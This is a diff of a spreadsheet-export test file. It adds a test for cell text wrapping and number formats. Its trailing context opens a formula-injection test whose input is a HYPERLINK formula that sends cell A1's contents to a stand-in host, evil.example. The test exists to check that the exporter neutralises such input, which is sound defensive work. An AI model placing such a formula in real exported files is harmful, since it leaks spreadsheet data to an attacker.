@@ -83,6 +83,26 @@ describe('streamWorkbook', () => {
     expect(sheet?.getColumn(2).width).toBe(30);
   });
 
+  it("wraps a column's lines in their cell, with or without a number format beside it", async () => {
+    const stream = streamWorkbook<Record>({
+      sheetName: 'Lines',
+      columns: [
+        { header: 'Lines', key: 'lines', width: 40, style: { wrapText: true } },
+        { header: 'Amount', key: 'amount', style: { numFmt: '#,##0.00', wrapText: true } },
+        { header: 'Plain', key: 'plain', style: { numFmt: '#,##0.00' } },
+      ],
+      batch: source(1).batch,
+      row: () => ({ lines: 'Amount: 1 → 2\nStatus: Active', amount: 1234.5, plain: 2 }),
+    });
+    const row = (await read(await buffer(stream))).worksheets[0]?.getRow(2);
+    expect(row?.getCell(1).value).toBe('Amount: 1 → 2\nStatus: Active');
+    expect(row?.getCell(1).alignment).toMatchObject({ wrapText: true, vertical: 'top' });
+    expect(row?.getCell(2).numFmt).toBe('#,##0.00');
+    expect(row?.getCell(2).alignment).toMatchObject({ wrapText: true });
+    expect(row?.getCell(3).numFmt).toBe('#,##0.00');
+    expect(row?.getCell(3).alignment?.wrapText).toBeFalsy();
+  });
+
   it('keeps a formula-like text inert though control characters hide it, and cuts a text to what a cell holds', async () => {
     const texts = [
       '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
